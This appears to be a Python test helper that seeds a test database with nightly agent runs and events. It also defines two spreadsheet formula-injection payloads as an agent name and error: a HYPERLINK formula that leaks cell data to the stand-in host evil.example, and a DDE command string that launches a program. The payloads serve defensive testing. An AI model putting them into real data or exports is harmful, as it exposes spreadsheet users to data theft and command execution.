"""History written straight to a panel world's database: an agent's runs and events night by
night, and an agent whose name and reported error a spreadsheet would run as formulas."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from uuid import UUID

import psycopg

from tests.panel.conftest import PanelWorld

# The panel world's clock shows 2027-03-26 11:00 UTC: last night's slot is 01:00 UTC that day.
LAST_NIGHT = datetime(2027, 3, 26, 1, 0, tzinfo=UTC)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_ERROR = "+cmd|' /C calc'!A0"


def add_nights(
    world: PanelWorld,
    agent_id: str,
    nights: int,
    *,
    version: str = "2.4.1",
    error: str | None = None,
) -> list[str]:
    """A scheduled run (succeeded, reporting `version`) and its event each night, the newest last
    night; the runs' ids, newest first."""
    with psycopg.connect(world.server.database_url) as conn:
        rows = conn.execute(
            "INSERT INTO runs (agent_id, org_id, trigger, slot_key, slot_at, status, version,"
            " error, created_at, finished_at)"
            " SELECT %(agent)s, %(org)s, 'schedule', to_char(at, 'YYYY-MM-DD\"T\"HH24:MI'), at,"
            " 'succeeded', %(version)s, %(error)s, at, at + interval '5 minutes'"
            " FROM (SELECT %(last)s - make_interval(days => n) AS at"
            "       FROM generate_series(0, %(nights)s - 1) AS n) AS night"
            " RETURNING id, created_at",
            {
                "agent": UUID(agent_id),
                "org": UUID(world.org_id),
                "version": version,
                "error": error,
                "last": LAST_NIGHT,
                "nights": nights,
            },
        ).fetchall()
        conn.execute(
            "INSERT INTO events (org_id, agent_id, run_id, kind, actor_kind, at, data)"
            " SELECT r.org_id, r.agent_id, r.id, 'update.succeeded', 'schedule',"
            " r.created_at + interval '5 minutes', jsonb_build_object('version', r.version)"
            " FROM runs r WHERE r.agent_id = %s",
            [UUID(agent_id)],
        )
    return [str(run_id) for run_id, _ in sorted(rows, key=lambda row: row[1], reverse=True)]


def add_agent(world: PanelWorld, name: str) -> str:
    with psycopg.connect(world.server.database_url) as conn:
        row = conn.execute(
            "INSERT INTO agents (org_id, name, created_at) VALUES (%s, %s, %s) RETURNING id",
            [UUID(world.org_id), name, LAST_NIGHT - timedelta(days=400)],
        ).fetchone()
    assert row is not None
    return str(row[0])
